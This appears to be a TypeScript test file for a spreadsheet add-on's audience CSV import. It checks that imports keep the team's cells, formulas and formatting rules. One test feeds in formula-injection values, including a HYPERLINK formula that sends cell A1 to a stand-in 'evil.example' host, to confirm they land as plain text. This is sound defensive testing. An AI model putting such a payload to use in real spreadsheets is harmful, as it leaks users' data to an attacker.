/** Audience import on the built bundle (issue #15 items 8 and 11): only the imported platforms' blocks change, in one write, and a platform name is text, never a formula. */
import type { Emulator } from '../../emulator';
import { call, inspect, loadAddon, setUpCalendar } from '../support/calendar-harness';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

function ready(): Emulator {
  const emulator = loadAddon({ now: () => new Date('2026-03-01T08:00:00Z') });
  setUpCalendar(emulator);
  return emulator;
}

const audience = (emulator: Emulator) => inspect(emulator, (ss) => ss.getSheetByName('Audience')!);
const grid = (emulator: Emulator, read: (sheet: Sheet) => unknown[][]) => inspect(emulator, () => read(audience(emulator)));
/** The 9 rows (name, hours, 7 weekdays) × 25 columns of the block whose first cell is `platform`. */
function block(values: unknown[][], platform: string): unknown[][] {
  const at = values.findIndex((row) => row[0] === platform);
  if (at < 0) throw new Error(`no ${platform} block`);
  return values.slice(at, at + 9).map((row) => row.slice(0, 25));
}

const LINKEDIN_CSV = ['platform,weekday,hour,value', 'linkedin,Saturday,20,500', 'LinkedIn,Sun,6,100'].join('\n');

test('importing one platform keeps the team’s own cells, formulas and the other platforms’ blocks, with one setValues', () => {
  const emulator = ready();
  inspect(emulator, () => {
    const sheet = audience(emulator);
    sheet.insertColumnsAfter(sheet.getMaxColumns(), 5);
    sheet.getRange('AA2').setValue('Team note beside the Instagram block');
    sheet.getRange('AB5').setFormula('=SUM(B3:Y9)');
    sheet.getRange('C10').setValue('note in a separator row');
    sheet.getRange(sheet.getLastRow() + 2, 1).setValue('Notes kept below the blocks');
  });
  const before = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  const formulasBefore = grid(emulator, (sheet) => sheet.getDataRange().getFormulas());
  emulator.stats.reset();
  const result = call<{ ok: boolean; platforms: string[] }>(emulator, 'importAudienceCsv', LINKEDIN_CSV);
  expect(result).toMatchObject({ ok: true, platforms: ['LinkedIn'] });
  expect(emulator.stats.byMethod['Range.setValues']).toBe(1);
  expect(emulator.stats.byMethod['Sheet.clear'] ?? 0).toBe(0);
  const after = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  const formulasAfter = grid(emulator, (sheet) => sheet.getDataRange().getFormulas());
  expect(after.length).toBe(before.length);
  for (const platform of ['Instagram', 'Facebook', 'X']) expect(block(after, platform)).toEqual(block(before, platform));
  const linkedIn = block(after, 'LinkedIn');
  expect(linkedIn[0][1]).toMatch(/Your analytics \(CSV\), imported 2026-03-01/);
  expect(linkedIn[7][21]).toBe(1); // Saturday 20:00, the busiest hour
  expect(linkedIn[8][7]).toBe(0.2); // Sunday 06:00
  expect(after.find((row) => row[0] === 'Notes kept below the blocks')).toBeDefined();
  expect(after[1][26]).toBe('Team note beside the Instagram block');
  expect(after[9][2]).toBe('note in a separator row');
  expect(formulasAfter[4][27]).toBe('=SUM(B3:Y9)');
  expect(formulasAfter[4][27]).toBe(formulasBefore[4][27]);
});

test('a platform new to the sheet is added below the last used row, and the rest stays', () => {
  const emulator = ready();
  const before = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  call(emulator, 'importAudienceCsv', ['platform,weekday,hour,value', 'Our newsletter,Monday,9,10'].join('\n'));
  const after = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  expect(after.slice(0, before.length).map((row) => row.slice(0, 25))).toEqual(before.map((row) => row.slice(0, 25)));
  expect(block(after, 'Our newsletter')[2][10]).toBe(1);
});

test('a platform name from the CSV is written as text, never as a live formula (item 8)', () => {
  const emulator = ready();
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Instagram")';
  const csv = ['platform,weekday,hour,value', `"${hostile.replace(/"/g, '""')}",Monday,9,10`, '+SUM(1),Tue,9,5', '@cmd,Wed,9,5'].join('\n');
  const result = call<{ ok: boolean; platforms: string[] }>(emulator, 'importAudienceCsv', csv);
  expect(result.ok).toBe(true);
  const values = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  const formulas = grid(emulator, (sheet) => sheet.getDataRange().getFormulas());
  expect(formulas.flat().filter((formula) => formula !== '')).toEqual([]);
  for (const name of [hostile, '+SUM(1)', '@cmd']) expect(values.some((row) => row[0] === name)).toBe(true);
  // Read back, the imported grids are the team's again (so the next import replaces them in place).
  const again = call<{ ok: boolean }>(emulator, 'importAudienceCsv', csv);
  expect(again.ok).toBe(true);
  expect(grid(emulator, (sheet) => sheet.getDataRange().getValues()).length).toBe(values.length);
});

test('each block is a heatmap that follows the team’s edits; an import replaces its block’s rule and keeps the team’s own', () => {
  const emulator = ready();
  const rows = grid(emulator, (sheet) => sheet.getDataRange().getValues());
  const top = rows.findIndex((row) => row[0] === 'LinkedIn');
  const shown = (row: number, column: number) => emulator.spreadsheet.renderSheet('Audience').cells[top + row][column].background.toLowerCase();
  inspect(emulator, () => {
    const sheet = audience(emulator);
    const app = emulator.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    const team = app.newConditionalFormatRule().whenTextEqualTo('check').setBackground('#ffff00').setRanges([sheet.getRange('A1:A5')]).build();
    sheet.setConditionalFormatRules([...sheet.getConditionalFormatRules(), team]);
  });
  const rulesBefore = inspect(emulator, () => audience(emulator).getConditionalFormatRules().length);
  call(emulator, 'importAudienceCsv', LINKEDIN_CSV);
  expect(inspect(emulator, () => audience(emulator).getConditionalFormatRules().length)).toBe(rulesBefore);
  expect(shown(7, 21)).toBe('#56b4e9'); // Saturday 20:00, the busiest hour
  expect(shown(8, 7)).toBe('#ddf0fb'); // Sunday 06:00, a fifth of it
  expect(shown(2, 1)).toBe('#ffffff'); // Monday 00:00, no activity
  // The team changes a weight by hand: the shading follows without an import.
  inspect(emulator, () => audience(emulator).getRange(top + 9, 8).setValue(1));
  expect(shown(8, 7)).toBe('#56b4e9');
  // The team's own rule is still there, after the heatmaps it was added beside.
  const criteria = inspect(emulator, () => audience(emulator).getConditionalFormatRules().map((rule) => rule.getBooleanCondition()?.getCriteriaValues()[0] ?? null));
  expect(criteria.filter((value) => value !== null)).toEqual(['check']);
  expect(inspect(emulator, () => audience(emulator).getRange(top + 3, 2, 7, 24).getBackgrounds().flat().every((colour) => colour.toLowerCase() === '#ffffff'))).toBe(true);
});
